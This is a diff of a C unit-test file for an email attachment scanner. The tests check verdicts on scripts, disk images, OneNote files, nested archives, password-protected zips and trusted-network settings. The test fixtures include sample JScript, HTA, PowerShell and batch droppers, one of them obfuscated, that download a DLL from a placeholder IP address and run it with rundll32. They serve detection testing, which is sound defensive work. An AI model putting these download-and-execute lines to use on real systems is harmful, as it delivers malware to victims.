@@ -53,9 +53,9 @@ static struct blob fixture(const char *rel)
 }
 
 /* An archive of the given files, written by libarchive in format fmt
- * ("iso9660", "zip") with options (or NULL). */
-static struct blob archive_of(const char *fmt, const char *options, const char *const *names,
-                              const struct blob *files, size_t n)
+ * ("iso9660", "zip") with options (or NULL), encrypted with passphrase (or NULL). */
+static struct blob archive_pw_of(const char *fmt, const char *options, const char *passphrase,
+                                 const char *const *names, const struct blob *files, size_t n)
 {
     size_t cap = 1 << 20, used = 0;
     for (size_t i = 0; i < n; i++)
@@ -65,6 +65,8 @@ static struct blob archive_of(const char *fmt, const char *options, const char *
     assert_int_equal(archive_write_set_format_by_name(a, fmt), ARCHIVE_OK);
     if (options)
         assert_int_equal(archive_write_set_options(a, options), ARCHIVE_OK);
+    if (passphrase)
+        assert_int_equal(archive_write_set_passphrase(a, passphrase), ARCHIVE_OK);
     assert_int_equal(archive_write_open_memory(a, b.p, cap, &used), ARCHIVE_OK);
     for (size_t i = 0; i < n; i++) {
         struct archive_entry *e = archive_entry_new();
@@ -85,12 +87,19 @@ static struct blob archive_of(const char *fmt, const char *options, const char *
 /* An ISO 9660 image with Joliet and Rock Ridge names, as IT and the waves made them. */
 static struct blob iso_of(const char *const *names, const struct blob *files, size_t n)
 {
-    return archive_of("iso9660", "joliet,rockridge", names, files, n);
+    return archive_pw_of("iso9660", "joliet,rockridge", NULL, names, files, n);
 }
 
 static struct blob zip_of(const char *const *names, const struct blob *files, size_t n)
 {
-    return archive_of("zip", NULL, names, files, n);
+    return archive_pw_of("zip", NULL, NULL, names, files, n);
+}
+
+/* A ZipCrypto zip, as `zip -P` and payroll providers write them. */
+static struct blob zip_pw_of(const char *pw, const char *const *names, const struct blob *files,
+                             size_t n)
+{
+    return archive_pw_of("zip", "zip:encryption=traditional", pw, names, files, n);
 }
 
 /* Base64 of buf; wrapped in lines for MIME, in one line for a script. */
@@ -717,29 +726,45 @@ static const struct zh_scan_envelope ENV = {.client_ip = "198.51.100.40",
                                             .n_rcpt = 1,
                                             .received_at = 1675000000000};
 
-/* A message from an ordinary sender with a short text and one attachment. */
-static const struct zh_result *scan_attachment(const char *name, const char *ctype,
-                                               const struct blob *b)
+/* One message with a short text and one attachment, from `from` (its
+ * domain also in the Message-ID) over env, scanned by sc. */
+struct mail {
+    zh_scanner *sc;
+    const struct zh_scan_envelope *env;
+    const char *from, *text;
+};
+
+static const struct zh_result *scan_mail(const struct mail *ml, const char *name, const char *ctype,
+                                         const struct blob *b)
 {
     char *enc = b64(b->p, b->len, true);
     size_t cap = strlen(enc) + 4096;
     char *m = malloc(cap);
+    const char *dom = strchr(ml->from, '@') + 1;
     snprintf(m, cap,
-             "From: Carol <carol@fabrikam.example>\r\nTo: alice@corp.example.com\r\n"
+             "From: %s\r\nTo: alice@corp.example.com\r\n"
              "Subject: documents\r\nDate: Sun, 29 Jan 2023 10:00:00 +0000\r\n"
-             "Message-ID: <20230129100000.77@mail.fabrikam.example>\r\nMIME-Version: 1.0\r\n"
+             "Message-ID: <20230129100000.77@%s>\r\nMIME-Version: 1.0\r\n"
              "Content-Type: multipart/mixed; boundary=\"zz\"\r\n\r\n--zz\r\n"
-             "Content-Type: text/plain; charset=us-ascii\r\n\r\nHi Alice, here are the files we "
-             "talked about on Friday."
+             "Content-Type: text/plain; charset=us-ascii\r\n\r\n%s"
              "\r\n--zz\r\nContent-Type: %s\r\nContent-Transfer-Encoding: base64\r\n"
              "Content-Disposition: attachment; filename=\"%s\"\r\n\r\n%s\r\n--zz--\r\n",
-             ctype, name, enc);
+             ml->from, dom, ml->text, ctype, name, enc);
     const struct zh_result *r;
-    zh_scanner_scan(scanner, (const uint8_t *)m, strlen(m), &ENV, 0, &r);
+    zh_scanner_scan(ml->sc, (const uint8_t *)m, strlen(m), ml->env, 0, &r);
     assert_int_equal(r->status, 0);
     free(m);
     free(enc);
     return r;
+}
+
+/* A message from an ordinary sender with a short text and one attachment. */
+static const struct zh_result *scan_attachment(const char *name, const char *ctype,
+                                               const struct blob *b)
+{
+    const struct mail ml = {scanner, &ENV, "carol@fabrikam.example",
+                            "Hi Alice, here are the files we talked about on Friday."};
+    return scan_mail(&ml, name, ctype, b);
 }
 
 static const struct zh_result_hit *find(const struct zh_result *r, const char *det,
@@ -921,6 +946,300 @@ static void test_pdf_verdicts(void **state)
     free(pe.p), free(zpe.p);
 }
 
+/* ---- judgement: scripts, containers, password archives, the site ------------ */
+
+static struct blob text_blob(const char *t)
+{
+    struct blob b = {(uint8_t *)strdup(t), strlen(t)};
+    return b;
+}
+
+static const char JS[] = "var sh = new ActiveXObject(\"WScript.Shell\");\r\n"
+                         "sh.Run(\"powershell -w hidden -c iwr http://203.0.113.9/a.dll\", 0);\r\n";
+static const char VBS[] = "Dim o\r\nSet o = CreateObject(\"WScript.Shell\")\r\n"
+                          "o.Run \"cmd /c start data.dll\", 0\r\n";
+static const char HTA[] =
+    "<html><head><HTA:APPLICATION ID=\"x\" WINDOWSTATE=\"minimize\" />\r\n"
+    "<script language=\"VBScript\">Set s = CreateObject(\"WScript.Shell\")\r\n"
+    "s.Run \"mshta http://203.0.113.9/p\", 0\r\nself.close</script></head>"
+    "<body></body></html>\r\n";
+static const char PS1[] = "$u = 'http://203.0.113.9/a.dll'\r\n"
+                          "(New-Object Net.WebClient).DownloadFile($u, \"$env:TEMP\\a.dll\")\r\n"
+                          "Start-Process rundll32 -ArgumentList \"$env:TEMP\\a.dll,Start\"\r\n";
+static const char BAT[] = "@echo off\r\nset x=%TEMP%\\a.dll\r\n"
+                          "powershell -c iwr http://203.0.113.9/a.dll -OutFile %x%\r\n"
+                          "rundll32 %x%,Start\r\nexit\r\n";
+static const char WSF[] = "<job id=\"a\">\r\n<script language=\"JScript\">\r\n"
+                          "new ActiveXObject(\"WScript.Shell\").Run(\"cmd /c calc\");\r\n"
+                          "</script>\r\n</job>\r\n";
+
+/* Scripts by content: alone at least SUSPICIOUS, in an archive MALICIOUS;
+ * JSON, prose and script text under a document name are not scripts. */
+static void test_script_verdicts(void **state)
+{
+    const char *zn[] = {"Invoice.js"};
+    struct blob js = text_blob(JS);
+    const char *bn[] = {"build.bat"};
+    struct blob bat = text_blob(BAT);
+    /* "powershell" spelt from substrings of a shuffled alphabet. */
+    const char *obf_n[] = {"Proforma.cmd"};
+    struct blob obf = text_blob("@echo off\r\nset k=pgaswxrmhzqifoykblnejtduvc\r\n"
+                                "%k:~0,1%%k:~13,1%%k:~4,1%%k:~19,1%%k:~6,1%%k:~3,1%%k:~8,1%"
+                                "%k:~19,1%%k:~17,1%%k:~17,1% aQB3AHIAIAAnAGgA\r\nexit\r\n");
+    const char *lib_n[] = {"js/menu.js"};
+    struct blob lib = text_blob("function toggle(id) {\n  var el = document.getElementById(id);\n"
+                                "  el.hidden = !el.hidden;\n};\n");
+    const struct verdict_row rows[] = {
+        {"lone JScript", "Invoice.js", "application/octet-stream", text_blob(JS), "script",
+         "script_attachment", ZH_VERDICT_SUSPICIOUS, ZH_VERDICT_MALICIOUS},
+        {"lone HTA", "Document.hta", "application/hta", text_blob(HTA), "script",
+         "script_attachment", ZH_VERDICT_SUSPICIOUS, ZH_VERDICT_MALICIOUS},
+        {"VBScript", "Invoice.vbs", "text/vbscript", text_blob(VBS), "script", "script_attachment",
+         ZH_VERDICT_SUSPICIOUS, ZH_VERDICT_MALICIOUS},
+        {"PowerShell", "Invoice.ps1", "text/plain", text_blob(PS1), "script", "script_attachment",
+         ZH_VERDICT_SUSPICIOUS, ZH_VERDICT_MALICIOUS},
+        {"batch", "Invoice.cmd", "text/plain", text_blob(BAT), "script", "script_attachment",
+         ZH_VERDICT_SUSPICIOUS, ZH_VERDICT_MALICIOUS},
+        {"Windows Script File", "Invoice.wsf", "text/xml", text_blob(WSF), "script",
+         "script_attachment", ZH_VERDICT_SUSPICIOUS, ZH_VERDICT_MALICIOUS},
+        {"JScript in a zip", "Invoice.zip", "application/zip", zip_of(zn, &js, 1), "script",
+         "script_in_container", ZH_VERDICT_MALICIOUS, ZH_VERDICT_MALICIOUS},
+        {"batch in a zip from outside", "tools.zip", "application/zip", zip_of(bn, &bat, 1),
+         "script", "script_in_container", ZH_VERDICT_MALICIOUS, ZH_VERDICT_MALICIOUS},
+        {"DOSfuscated batch in a zip", "Proforma.zip", "application/zip", zip_of(obf_n, &obf, 1),
+         "script", "script_in_container", ZH_VERDICT_MALICIOUS, ZH_VERDICT_MALICIOUS},
+        /* near misses */
+        {"a web library in a developer's zip", "site.zip", "application/zip",
+         zip_of(lib_n, &lib, 1), NULL, NULL, ZH_VERDICT_CLEAN, ZH_VERDICT_SUSPICIOUS},
+        {"a shell script (no Windows script host runs it)", "install.sh", "text/x-sh",
+         text_blob("#!/bin/sh\nset -e\nmake && make install\n"), NULL, NULL, ZH_VERDICT_CLEAN,
+         ZH_VERDICT_CLEAN},
+        {"a .js that is JSON", "config.js", "application/json",
+         text_blob("{\"name\": \"report\", \"rows\": [1, 2, 3], \"new\": true, \"var\": null}\n"),
+         NULL, NULL, ZH_VERDICT_CLEAN, ZH_VERDICT_SUSPICIOUS},
+        {"prose under a script name", "notes.vbs", "text/plain",
+         text_blob("Set the table for six and then call Anna when the guests arrive.\n"), NULL,
+         NULL, ZH_VERDICT_CLEAN, ZH_VERDICT_SUSPICIOUS},
+        {"script text in a .txt", "howto.txt", "text/plain", text_blob(BAT), NULL, NULL,
+         ZH_VERDICT_CLEAN, ZH_VERDICT_CLEAN},
+        {"JScript quoted in an HTML page", "snippet.html", "text/html",
+         text_blob("<html><body><pre>var sh = new ActiveXObject(\"WScript.Shell\");</pre>"
+                   "</body></html>"),
+         NULL, NULL, ZH_VERDICT_CLEAN, ZH_VERDICT_CLEAN},
+    };
+    check_rows(rows, sizeof rows / sizeof rows[0], "script");
+    /* A second signal: a lone script from a generated-looking sender. */
+    const struct mail odd = {scanner, &ENV, "kx7q9zt4vw@fabrikam.example",
+                             "Your invoice is attached."};
+    const struct zh_result *r = scan_mail(&odd, "Invoice.js", "application/octet-stream", &js);
+    if (r->verdict != ZH_VERDICT_MALICIOUS || !find(r, "combination", "sender+script")) {
+        dump(r);
+        fail_msg("a script from a forged sender must be MALICIOUS");
+    }
+    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++)
+        free(rows[i].data.p);
+    free(js.p), free(bat.p), free(lib.p), free(obf.p);
+}
+
+/* A stand-in for a Word document with VBA: the OLE2 signature and the VBA
+ * project's stream name as a compound file's directory spells it. */
+static struct blob macro_doc(void)
+{
+    struct blob b = {calloc(1, 2048), 2048};
+    memcpy(b.p, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8);
+    static const char name[] = "_VBA_PROJECT";
+    for (size_t i = 0; name[i]; i++)
+        b.p[1024 + 2 * i] = (uint8_t)name[i];
+    return b;
+}
+
+/* Disk images and OneNote holding what runs; nesting used to hide. */
+static void test_container_verdicts(void **state)
+{
+    struct blob pe = tiny_pe();
+    struct blob vbs = text_blob(VBS);
+    struct blob pdf = text_blob("%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n");
+    struct blob txt = text_blob("Install with setup, then reboot.\n");
+    struct blob lnk = fixture("lnk/report-document.lnk");
+    const char *exe_n[] = {"Invoice.exe", "readme.txt"};
+    struct blob exe_f[] = {pe, txt};
+    const char *vbs_n[] = {"Shipping_Documents.vbs"};
+    const char *doc_n[] = {"manual.pdf", "readme.txt"};
+    struct blob doc_f[] = {pdf, txt};
+    const char *ql_n[] = {"Invoice.lnk", "data.dll"};
+    struct blob ql_f[] = {lnk, pe};
+    struct blob ql_iso = iso_of(ql_n, ql_f, 2);
+    const char *qz_n[] = {"Invoice.iso"};
+    struct blob ql_zip = zip_of(qz_n, &ql_iso, 1);
+    const char *in_n[] = {"notes.txt"}, *mid_n[] = {"inner.zip"}, *out_n[] = {"middle.zip"};
+    struct blob in = zip_of(in_n, &txt, 1), mid = zip_of(mid_n, &in, 1);
+    const struct verdict_row rows[] = {
+        {"ISO holding a program", "Invoice.iso", "application/octet-stream",
+         iso_of(exe_n, exe_f, 2), "container", "disk_image_payload", ZH_VERDICT_MALICIOUS,
+         ZH_VERDICT_MALICIOUS},
+        {"ISO holding a script", "Shipping.iso", "application/octet-stream", iso_of(vbs_n, &vbs, 1),
+         "container", "disk_image_payload", ZH_VERDICT_MALICIOUS, ZH_VERDICT_MALICIOUS},
+        {"OneNote holding an HTA, batch and program", "Remittance.one", "application/onenote",
+         fixture("onenote/remittance.one"), "container", "onenote_payload", ZH_VERDICT_MALICIOUS,
+         ZH_VERDICT_MALICIOUS},
+        {"HTML > zip > ISO > shortcut and DLL", "Document.html", "text/html", qakbot_page(&ql_zip),
+         "container", "nested_to_hide", ZH_VERDICT_MALICIOUS, ZH_VERDICT_MALICIOUS},
+        /* near misses */
+        {"ISO of documents", "Manual.iso", "application/octet-stream", iso_of(doc_n, doc_f, 2),
+         NULL, NULL, ZH_VERDICT_CLEAN, ZH_VERDICT_CLEAN},
+        {"zips three deep holding notes", "outer.zip", "application/zip", zip_of(out_n, &mid, 1),
+         NULL, NULL, ZH_VERDICT_CLEAN, ZH_VERDICT_SUSPICIOUS},
+    };
+    check_rows(rows, sizeof rows / sizeof rows[0], "container");
+    /* The smuggling page is judged by html_smuggling as well. */
+    const struct zh_result *r = scan_attachment("Document.html", "text/html", &rows[3].data);
+    assert_non_null(find(r, "html_smuggling", "html_smuggling_payload"));
+    assert_non_null(find(r, "shortcut", "shortcut_beside_payload"));
+    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++)
+        free(rows[i].data.p);
+    free(pe.p), free(vbs.p), free(pdf.p), free(txt.p), free(lnk.p), free(ql_iso.p), free(ql_zip.p);
+    free(in.p), free(mid.p);
+}
+
+static const char *const OWN_RCPT[] = {"alice@corp.example.com"};
+/* The organisation's HR through its hosted provider, and IT through its hub. */
+static const struct zh_scan_envelope HOSTED = {.client_ip = "40.107.22.14",
+                                               .helo = "EUR01-obe.outbound.protection.example",
+                                               .mail_from = "payroll@corp.example.com",
+                                               .rcpt_to = OWN_RCPT,
+                                               .n_rcpt = 1,
+                                               .received_at = 1675000000000};
+static const struct zh_scan_envelope HUB = {.client_ip = "10.0.1.29",
+                                            .helo = "exch01.corp.example.com",
+                                            .mail_from = "servicedesk@corp.example.com",
+                                            .rcpt_to = OWN_RCPT,
+                                            .n_rcpt = 1,
+                                            .received_at = 1675000000000};
+
+static zh_scanner *scanner_with(zh_engine **e, const char *setting, const char *value)
+{
+    struct zh_config cfg;
+    zh_config_defaults(&cfg);
+    zh_config_set(&cfg, "rules_dir", ZH_SOURCE_DIR "/rules", NULL, 0);
+    zh_config_set(&cfg, "outbreak.enabled", "0", NULL, 0);
+    if (setting)
+        assert_int_equal(zh_config_set(&cfg, setting, value, NULL, 0), ZH_ERR_OK);
+    struct zh_rules_report rep;
+    assert_int_equal(zh_engine_new(&cfg, e, &rep), ZH_ERR_OK);
+    zh_rules_report_free(&rep);
+    zh_config_free(&cfg);
+    zh_scanner *sc;
+    assert_int_equal(zh_scanner_new(*e, &sc), ZH_ERR_OK);
+    return sc;
+}
+
+static void expect(const struct zh_result *r, const char *what, const char *det, const char *rule,
+                   bool fires, int min_verdict, int max_verdict)
+{
+    if ((find(r, det, rule) != NULL) != fires || r->verdict < min_verdict ||
+        r->verdict > max_verdict) {
+        dump(r);
+        fail_msg("%s: %s/%s %s, verdict %d (want %d..%d)", what, det, rule,
+                 fires ? "silent" : "fired", r->verdict, min_verdict, max_verdict);
+    }
+}
+
+/* Password archives judged by what they hold, and the [site] settings. */
+static void test_password_and_site_verdicts(void **state)
+{
+    struct blob pdf = text_blob("%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n");
+    struct blob js = text_blob(JS), doc = macro_doc(), pe = tiny_pe(), bat = text_blob(BAT);
+    const char *pdf_n[] = {"Payslip_2025_02.pdf", "Tax_form.pdf"};
+    struct blob pdf_f[] = {pdf, pdf};
+    const char *js_n[] = {"Invoice.js"}, *doc_n[] = {"Invoice.doc"};
+    struct blob payslips = zip_pw_of("Xk81pq", pdf_n, pdf_f, 2);
+    struct blob jszip = zip_pw_of("Xk81pq", js_n, &js, 1);
+    struct blob doczip = zip_pw_of("Xk81pq", doc_n, &doc, 1);
+    const char *pw_text = "Your documents are in a protected archive. Password: Xk81pq";
+    const struct mail outside = {scanner, &ENV, "noreply@payroll-provider.example", pw_text};
+    const struct mail hr = {scanner, &HOSTED, "payroll@corp.example.com", pw_text};
+
+    const struct zh_result *r = scan_mail(&outside, "documents.zip", "application/zip", &payslips);
+    expect(r, "payslips from a provider", "archive_executable",
+           "encrypted_archive_password_documents", true, ZH_VERDICT_CLEAN, ZH_VERDICT_CLEAN);
+    const struct mail use = {scanner, &ENV, "noreply@payroll-provider.example",
+                             "Your statements are attached.\r\nUse Xk81pq to\r\nopen the file."};
+    r = scan_mail(&use, "documents.zip", "application/zip", &payslips);
+    expect(r, "\"Use ... to open\" names the password", "archive_executable",
+           "encrypted_archive_password_documents", true, ZH_VERDICT_CLEAN, ZH_VERDICT_CLEAN);
+    const struct mail none = {scanner, &ENV, "noreply@payroll-provider.example",
+                              "Your statements are attached; the key follows by SMS."};
+    r = scan_mail(&none, "documents.zip", "application/zip", &payslips);
+    expect(r, "a locked archive is never CLEAN", "archive_executable", "encrypted_archive", true,
+           ZH_VERDICT_SUSPICIOUS, ZH_VERDICT_SUSPICIOUS);
+    r = scan_mail(&outside, "Invoice.zip", "application/zip", &jszip);
+    expect(r, "a password zip of JScript", "archive_executable",
+           "encrypted_archive_password_payload", true, ZH_VERDICT_MALICIOUS, ZH_VERDICT_MALICIOUS);
+    r = scan_mail(&outside, "Invoice.zip", "application/zip", &doczip);
+    expect(r, "a password zip of a macro document", "archive_executable",
+           "encrypted_archive_password_payload", true, ZH_VERDICT_MALICIOUS, ZH_VERDICT_MALICIOUS);
+    /* Issue 12's HR mail through the hosted provider: never MALICIOUS on
+     * defaults; with the provider's range trusted, not an outside claim. */
+    r = scan_mail(&hr, "documents.zip", "application/zip", &payslips);
+    expect(r, "HR via the hosted provider, defaults", "sender", "claims_recipient_domain", true,
+           ZH_VERDICT_CLEAN, ZH_VERDICT_SUSPICIOUS);
+    zh_engine *e2;
+    zh_scanner *site = scanner_with(&e2, "site.trusted_networks", "40.107.0.0/16 52.100.0.0/14");
+    const struct mail hr_trusted = {site, &HOSTED, "payroll@corp.example.com", pw_text};
+    r = scan_mail(&hr_trusted, "documents.zip", "application/zip", &payslips);
+    expect(r, "HR via the trusted provider", "sender", "claims_recipient_domain", false,
+           ZH_VERDICT_CLEAN, ZH_VERDICT_CLEAN);
+    /* ...but a program from that provider's other tenants is still judged. */
+    const struct mail tenant = {site, &ENV, "billing@other-tenant.example", "Invoice attached"};
+    const char *exe_n[] = {"Invoice.exe"};
+    struct blob iso = iso_of(exe_n, &pe, 1);
+    r = scan_mail(&tenant, "Invoice.iso", "application/octet-stream", &iso);
+    expect(r, "ISO with a program from outside", "container", "disk_image_payload", true,
+           ZH_VERDICT_MALICIOUS, ZH_VERDICT_MALICIOUS);
+    /* IT's ISO delivery and a developer's zip of build scripts, from the
+     * hub and the organisation's domain: flagged, never MALICIOUS. */
+    const struct mail it = {site, &HUB, "servicedesk@corp.example.com", "The VPN installer."};
+    r = scan_mail(&it, "VPN_install.iso", "application/octet-stream", &iso);
+    expect(r, "IT's ISO delivery", "container", "disk_image_payload", true, ZH_VERDICT_CLEAN,
+           ZH_VERDICT_SUSPICIOUS);
+    const char *bat_n[] = {"build.bat"};
+    struct blob tools = zip_of(bat_n, &bat, 1);
+    r = scan_mail(&it, "tools.zip", "application/zip", &tools);
+    expect(r, "a developer's zip of scripts", "script", "script_in_container", true,
+           ZH_VERDICT_CLEAN, ZH_VERDICT_SUSPICIOUS);
+    zh_scanner_free(site);
+    zh_engine_free(e2);
+    free(pdf.p), free(js.p), free(doc.p), free(pe.p), free(bat.p), free(payslips.p);
+    free(jszip.p), free(doczip.p), free(iso.p), free(tools.p);
+}
+
+/* The YARA externals of the new objects, through a rule set that uses them. */
+static void test_wrapper_externals(void **state)
+{
+    zh_engine *e;
+    zh_scanner *sc = scanner_with(&e, "rules_dir", ZH_SOURCE_DIR "/tests/fixtures/rules-externals");
+    struct blob pe = tiny_pe(), lnk = fixture("lnk/bumblebee-rundll32.lnk"), js = text_blob(JS);
+    const char *ql_n[] = {"Invoice.lnk", "documents.dll", "run.js"};
+    struct blob ql_f[] = {lnk, pe, js};
+    struct blob iso = iso_of(ql_n, ql_f, 3);
+    const char *qz_n[] = {"Invoice.iso"};
+    struct blob zip = zip_of(qz_n, &iso, 1);
+    struct blob page = qakbot_page(&zip);
+    const struct mail ml = {sc, &ENV, "carol@fabrikam.example", "See the document."};
+    const struct zh_result *r = scan_mail(&ml, "Document.html", "text/html", &page);
+    static const char *const rules[] = {"ext_smuggled_shortcut", "ext_shortcut_target",
+                                        "ext_smuggling_page", "ext_script_in_image",
+                                        "ext_not_internal"};
+    for (size_t i = 0; i < sizeof rules / sizeof rules[0]; i++)
+        if (!find(r, "yara", rules[i])) {
+            dump(r);
+            fail_msg("rule %s did not match", rules[i]);
+        }
+    zh_scanner_free(sc);
+    zh_engine_free(e);
+    free(pe.p), free(lnk.p), free(js.p), free(iso.p), free(zip.p), free(page.p);
+}
+
 static int setup_engine(void **state)
 {
     struct zh_config cfg;
@@ -958,6 +1277,10 @@ int main(void)
         cmocka_unit_test(test_shortcut_verdicts),
         cmocka_unit_test(test_smuggling_verdicts),
         cmocka_unit_test(test_pdf_verdicts),
+        cmocka_unit_test(test_script_verdicts),
+        cmocka_unit_test(test_container_verdicts),
+        cmocka_unit_test(test_password_and_site_verdicts),
+        cmocka_unit_test(test_wrapper_externals),
     };
     int rc = cmocka_run_group_tests_name("extractors", stage, NULL, NULL);
     return rc | cmocka_run_group_tests_name("verdicts", verdicts, setup_engine, teardown_engine);
